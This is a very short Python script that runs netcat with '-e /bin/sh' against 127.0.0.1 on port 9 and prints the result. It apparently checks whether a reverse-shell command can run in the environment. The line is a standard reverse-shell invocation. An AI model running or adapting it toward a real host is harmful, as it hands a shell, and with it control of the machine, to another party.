import subprocess

try:
    print(subprocess.run(['nc', '-e', '/bin/sh', '127.0.0.1', '9'], timeout=5).returncode)
except OSError as problem:
    print(problem)
